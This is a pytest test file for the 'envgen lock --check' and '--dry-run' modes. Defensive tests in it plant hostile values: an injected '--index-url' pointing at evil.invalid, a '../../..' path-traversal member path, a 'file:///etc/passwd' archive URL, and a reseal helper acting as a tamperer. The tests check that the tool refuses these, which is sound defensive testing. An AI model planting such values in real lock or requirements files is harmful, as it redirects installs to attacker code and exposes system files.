"""`envgen lock --check` and `envgen lock --dry-run` on the served example: the re-lock `envgen
lock` would run, compared with locks/ and never written (not even the env's mutex file)."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from envgen.cli import cli
from envgen.example.project import Example, bump_version
from envgen.lockio.store import read_lock
from envgen.project import Project

from tests.support.closed import closed_url
from tests.support.example import run_envgen
from tests.support.lk_locked import locked_example
from tests.support.schemas import validate

ENV = "demo"
PLATFORMS = ("linux-64", "linux-aarch64")
SCHEMA = json.loads((Path(__file__).parents[2] / "docs" / "cli.schema.json").read_text())
BUMP = "pip demo-torch 2.10.0 -> 2.10.1: required by env-templates/demo.toml: "
REASON = "matrix env-templates/demo.toml changed"

envgen = run_envgen


@pytest.fixture(scope="module")
def served(read_only_served: Example) -> Example:
    """The worker's served example, a copy of its project for this module
    (tests/integration/conftest.py): the module edits only its project (its matrix, channel files,
    locks/), each test putting it back; upstream and what is served it only reads."""
    return read_only_served


@pytest.fixture(scope="module")
def first_lock(worker_first_lock: dict[str, bytes]) -> dict[str, bytes]:
    """The worker's example locked once (tests/integration/conftest.py); each test starts from
    these files."""
    return worker_first_lock


@pytest.fixture
def example(
    served: Example, first_lock: dict[str, bytes], monkeypatch: pytest.MonkeyPatch
) -> Iterator[Example]:
    """The served example, locked, its matrix and channel files put back afterwards."""
    channels = {p: p.read_text() for p in (served.root / "channels").glob("*.toml")}
    with locked_example(served, ENV, first_lock, monkeypatch) as example:
        # A run before this one may leave the env's mutex file: a mode that writes nothing must not
        # make it again.
        (example.root / "locks" / f".{ENV}.lock").unlink(missing_ok=True)
        yield example
    for path, text in channels.items():
        path.write_text(text)
    (served.root / "locks" / f".{ENV}.lock").unlink(missing_ok=True)


def locks(example: Example) -> dict[str, bytes]:
    """Every entry of locks/, hidden ones included, with its bytes."""
    return {p.name: p.read_bytes() for p in sorted((example.root / "locks").iterdir())}


def report(err: str) -> list[str]:
    """The report's lines on stderr, after the log lines of the work."""
    lines = err.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith(f"{ENV}: "))
    return lines[start:]


def document(out: str) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(out)
    validate(found, SCHEMA)
    return found


def test_check_is_0_on_a_fresh_lock_and_1_after_a_matrix_edit_and_writes_nothing(
    example: Example, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    before = locks(example)
    # A fresh lock needs no resolving: nothing is fetched into the cache; at most the lock's parsed
    # yml and sources.toml are kept there (lockio/lock_documents.py).
    untouched = tmp_path / "untouched"
    monkeypatch.setenv("ENVGEN_CACHE_DIR", str(untouched))
    code, _, err = envgen(example, "lock", ENV, "--check")
    assert (code, err) == (0, f"{ENV}: up to date (input hash {example_hash(example)[:12]})\n")
    kept = {p.name for p in untouched.iterdir()} if untouched.exists() else set()
    assert kept <= {"lock-documents"}
    monkeypatch.delenv("ENVGEN_CACHE_DIR")

    bump_version(example, "demo-torch", "2.10.0", "2.10.1")
    code, _, err = envgen(example, "lock", ENV, "--check")
    assert code == 1, err
    lines = report(err)
    assert lines[0].startswith(f"{ENV}: would lock (") and lines[0].endswith("; nothing written")
    assert lines[1] == f"  because {REASON}"
    assert lines[2].startswith(f"  would change locks/{ENV}.yml, locks/{ENV}.sources.toml, ")
    assert sum(BUMP in line for line in lines) == len(PLATFORMS)
    closing = "1 lock needs to be updated, but --check was provided (nothing written)"
    assert lines[-1] == f"{closing}: run `envgen lock {ENV}` to update it"
    assert locks(example) == before

    code, out, err = envgen(example, "lock", ENV, "--check", "--json")
    assert code == 1, err
    found = document(out)
    assert (found["ok"], found["exit_code"]) == (False, 1)
    (result,) = found["results"]
    assert result["status"] == "would-lock" and result["reasons"] == [REASON]
    assert {"path": f"locks/{ENV}.yml", "change": "changed"} in result["files"]
    assert locks(example) == before

    assert envgen(example, "lock", ENV, "-q")[0] == 0
    code, _, err = envgen(example, "lock", ENV, "--check")
    assert code == 0 and err.endswith(
        "up to date (input hash " + example_hash(example)[:12] + ")\n"
    )


def example_hash(example: Example) -> str:
    lock = read_lock(Project(example.root), ENV)
    assert lock is not None
    return lock.input_hash


# `envgen ARGS...` in a fresh interpreter; then whether it imported rattler.
RATTLER = """
import sys
from envgen.cli import cli
try:
    cli(sys.argv[1:], prog_name="envgen")
except SystemExit as exc:
    print("exit", exc.code or 0, "rattler" in sys.modules)
"""


def test_a_fresh_lock_is_judged_without_rattler_and_an_edited_spec_it_refuses_is_exit_2(
    example: Example,
) -> None:
    """The matrix's bytes are those the lock was made from: its conda specs were read by the lock's
    solve, and rattler (a tenth of the command) is not imported to parse them again. Once the
    matrix changed they are parsed, and one rattler refuses is the matrix's error, located."""
    argv = ["lock", ENV, "--check", "-q", "--root", str(example.root)]
    done = subprocess.run(
        [sys.executable, "-c", RATTLER, *argv], capture_output=True, text=True, check=False
    )
    assert done.stdout.split() == ["exit", "0", "False"], done.stdout + done.stderr
    text = example.matrix.read_text()
    example.matrix.write_text(text.replace('"libdemo"]', '"libdemo >>2"]'))
    code, out, err = envgen(example, "lock", ENV, "--check")
    assert code == 2, out + err
    assert "conda.specs[2]" in err and "'libdemo >>2' is not a conda match spec" in err, err
    assert not (example.root / "locks" / f".{ENV}.lock").exists()


def test_dry_run_says_what_the_re_lock_moves_and_why_and_writes_nothing(example: Example) -> None:
    """The moves are the ones the real re-lock then reports, and the files it names the ones the
    real re-lock then changes."""
    before = locks(example)
    bump_version(example, "demo-torch", "2.10.0", "2.10.1")
    code, _, err = envgen(example, "lock", ENV, "--dry-run")
    assert code == 0, err
    assert sum(BUMP in line for line in err.splitlines()) == len(PLATFORMS)
    assert f"  because {REASON}\n" in err and "nothing written" in err
    assert locks(example) == before

    code, out, err = envgen(example, "lock", ENV, "--dry-run", "--json")
    assert code == 0, err
    (dry,) = document(out)["results"]
    for platform in PLATFORMS:
        (torch,) = dry["moved"][platform]
        assert (torch["name"], torch["old"], torch["new"]) == ("demo-torch", "2.10.0", "2.10.1")
        assert "pip.packages.demo-torch.version (==2.10.1)" in torch["reason"]
    assert locks(example) == before

    code, out, err = envgen(example, "lock", ENV, "--json")
    assert code == 0, err
    (real,) = document(out)["results"]
    assert (real["moved"], real["sources_moved"]) == (dry["moved"], dry["sources_moved"])
    assert real["input_hash"] == dry["input_hash"]
    after = locks(example)
    # The real re-lock's mutex file aside, what it changed is what the dry run named.
    changed = {f"locks/{n}" for n in after if after[n] != before.get(n) and not n.startswith(".")}
    assert {f["path"] for f in dry["files"]} == changed

    # Up to date again; a forced dry run resolves and finds the same bytes.
    code, out, err = envgen(example, "lock", ENV, "--dry-run", "--force", "--json")
    assert code == 0, err
    (forced,) = document(out)["results"]
    assert forced == {"env": ENV, "status": "up-to-date", "input_hash": real["input_hash"]}
    assert locks(example) == after


def test_an_unreachable_host_is_exit_3_naming_it_and_a_missing_lock_needs_no_host(
    example: Example,
) -> None:
    pypi = example.root / "channels" / "pypi.toml"
    down = closed_url()
    pypi.write_text(pypi.read_text().replace(example.pypi_url, down))
    before = locks(example)
    for mode in ("--check", "--dry-run"):
        code, _, err = envgen(example, "lock", ENV, mode)
        assert code == 3, err
        assert "did not answer; nothing was locked" in err
        host = down.removeprefix("http://")
        assert f"\n  {host}: [Errno 111] Connection refused\n" in err, err
        assert f"\n    pip index {down}/simple (demo)\n" in err, err
        assert "Traceback" not in err
        assert locks(example) == before

    # No lock at all: --check says so without asking any host; --dry-run resolves, and cannot.
    for path in (example.root / "locks").glob(f"*{ENV}*"):
        path.unlink()
    code, out, err = envgen(example, "lock", ENV, "--check", "--json")
    assert code == 1, err
    (result,) = document(out)["results"]
    three = [f"locks/{ENV}.{name}" for name in ("yml", "sources.toml", "install.sh")]
    assert result == {
        "env": ENV,
        "status": "would-lock",
        "input_hash": None,
        "reasons": ["no lock yet"],
        "files": [{"path": path, "change": "added"} for path in three],
    }
    assert envgen(example, "lock", ENV, "--dry-run")[0] == 3
    assert locks(example) == {}


def test_an_edit_that_no_longer_resolves_is_exit_3_with_its_conflicts(example: Example) -> None:
    """--check resolves as uv's does: a stale lock that cannot be re-locked is not a bare 1."""
    override = (
        '[overrides.demo-transformers]\nrequirement = "demo-transformers==4.57.6"\n'
        'reason = "the matrix validates 4.57.6; rollout\'s requirements ask for 5.x"\n'
    )
    text = example.matrix.read_text()
    assert override in text  # without it, rollout asks >=5.0 of what the matrix pins ==4.57.6
    example.matrix.write_text(text.replace(override, ""))
    before = locks(example)
    code, out, err = envgen(example, "lock", ENV, "--check", "--json")
    assert code == 3, err
    found = document(out)
    assert found["results"] == []
    conflicts = found["error"]["conflicts"]
    assert {c["name"] for c in conflicts} == {"demo-transformers"}
    assert locks(example) == before


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["--check", "--force"], "give --check or --force, not both"),
        (["--check", "--dry-run"], "give --check or --dry-run, not both"),
        (["--check", "--upgrade"], "give --check or --upgrade, not both"),
        (
            ["--check", "--upgrade-package", "demo-torch"],
            "`envgen lock --dry-run --upgrade-package NAME`",
        ),
        (["--check", "--update-all"], "give --check or --update-all, not both"),
        (["--check", "--update", "rollout"], "give --check or --update, not both"),
    ],
)
def test_contradicting_modes_are_usage_errors(tmp_path: Path, args: list[str], said: str) -> None:
    """Found before anything else: no project is even looked for."""
    result = CliRunner().invoke(cli, ["lock", *args, "--root", str(tmp_path)])
    assert result.exit_code == 2 and result.stdout == ""
    assert result.stderr.startswith("error: give --check or ") and said in result.stderr


INJECTED = "\n--index-url http://evil.invalid/simple\n"


def test_check_and_dry_run_refuse_a_derived_file_edited_by_hand_as_install_does(
    example: Example,
) -> None:
    """Before: --check and --dry-run exit 0 and leave the injected line (they read the derived
    files' headers alone), while `install --frozen` refuses the file (exit 4). A comment, which
    neither pip nor uv reads, is a change `status` calls stale: --check resolves and says so."""
    name = f"{ENV}.linux-64.requirements.txt"
    path = example.root / "locks" / name
    written = path.read_text()
    path.write_text(written + INJECTED)
    before = locks(example)
    for mode in ("--check", "--dry-run"):
        code, _, err = envgen(example, "lock", ENV, mode)
        assert code == 4, (mode, err)
        assert f"locks/{name} was edited by hand" in err, err
        assert f"`envgen lock {ENV} --force` writes it again" in err and "Traceback" not in err
        assert locks(example) == before
    code, _, err = envgen(example, "lock", ENV, "--force")
    assert code == 0, err
    assert path.read_text() == written

    path.write_text(written + "# reviewed\n")
    code, out, err = envgen(example, "lock", ENV, "--check", "--json")
    assert code == 1, err
    (result,) = document(out)["results"]
    assert result["files"] == [{"path": f"locks/{name}", "change": "changed"}]


def test_a_plain_lock_writes_a_derived_file_edited_by_hand_again(example: Example) -> None:
    """Before: a plain `envgen lock` took the lock for fresh (it read the derived files' headers)
    and left an injected index line for pip to read. The sealed sources.toml records the derived
    files' hash; the no-op hashes them and locks again when they differ."""
    name = f"{ENV}.linux-64.requirements.txt"
    path = example.root / "locks" / name
    written = path.read_text()
    path.write_text(written + INJECTED)
    code, out, err = envgen(example, "lock", ENV, "--json")
    assert code == 0, err
    assert document(out)["results"][0]["status"] == "locked"
    assert "a derived file was edited after `envgen lock` wrote it: locking again" in err
    assert path.read_text() == written
    code, out, err = envgen(example, "lock", ENV, "--json")
    assert (code, document(out)["results"][0]["status"]) == (0, "up-to-date"), err


def test_a_lock_recording_no_derived_hash_compares_its_derived_files_with_the_rendering(
    example: Example,
) -> None:
    """A lock written before the derived hash was recorded (its line taken out, sealed again) is
    kept while its derived files are the lock's rendering, and locked again once one is edited."""
    sources = example.root / "locks" / f"{ENV}.sources.toml"
    lines = sources.read_text().splitlines(keepends=True)
    sources.write_text("".join(line for line in lines if not line.startswith("derived-hash = ")))
    reseal(example)
    before = locks(example)
    code, out, err = envgen(example, "lock", ENV, "--json")
    assert (code, document(out)["results"][0]["status"]) == (0, "up-to-date"), err
    assert locks(example) == before
    path = example.root / "locks" / f"pylock.{ENV}-linux-64.toml"
    path.write_text(path.read_text() + "# edited\n")
    code, out, err = envgen(example, "lock", ENV, "--json")
    assert (code, document(out)["results"][0]["status"]) == (0, "locked"), err
    assert "derived-hash = " in sources.read_text()


def reseal(example: Example) -> None:
    """The content hash computed again after an edit, as a tamperer who knows the scheme would."""
    from envgen.lockio.seal import seal

    yml, sources, recipe = (example.root / "locks" / f"{ENV}{s}" for s in EXTENSIONS)
    sources.write_text(seal(yml.read_text(), sources.read_text(), recipe.read_text()))


EXTENSIONS = (".yml", ".sources.toml", ".install.sh")


@pytest.mark.parametrize(
    ("pattern", "hostile", "field"),
    [
        (r'(?m)^path = "demo_ep-[^"]*"', 'path = "../../.."', "archives[0].members[1].path"),
        (r'(?m)^url = "http://[^"]*/releases/[^"]*"', 'url = "file:///etc/passwd"', "url"),
        (r'(?m)^requirement = "demo-transformers==4.57.6"', 'requirement = ""', "requirement"),
        (r'(?m)^text = "demo-torch"', 'text = "==2.10"', "requirements[0].text"),
    ],
    ids=["member-path", "archive-url", "override-requirement", "source-requirement"],
)
def test_check_and_dry_run_refuse_a_resealed_hostile_field_as_status_does(
    example: Example, pattern: str, hostile: str, field: str
) -> None:
    """Before: --check and --dry-run exit 0 (the no-op read the recorded input digests alone),
    while `status` and `install` exit 2 naming the field; a requirement that is no PEP 508 one
    was read as it was, and `check` ended in packaging's traceback."""
    import re

    sources = example.root / "locks" / f"{ENV}.sources.toml"
    sources.write_text(re.sub(pattern, hostile, sources.read_text(), count=1))
    reseal(example)
    before = locks(example)
    code, out, _ = envgen(example, "status", ENV)
    assert code == 2
    # check reports it as its failed first step (exit 4), naming the file, line and field
    code, out, err = envgen(example, "check", ENV, "--no-solve", "--no-env")
    assert code == 4 and f"static: lock parses: locks/{ENV}.sources.toml:" in out, out + err
    assert field in out and "Traceback" not in out + err
    for mode in ("--check", "--dry-run"):
        code, _, err = envgen(example, "lock", ENV, mode)
        assert code == 2, (mode, err)
        assert f"locks/{ENV}.sources.toml" in err and field in err, err
        assert "Traceback" not in err
        assert locks(example) == before
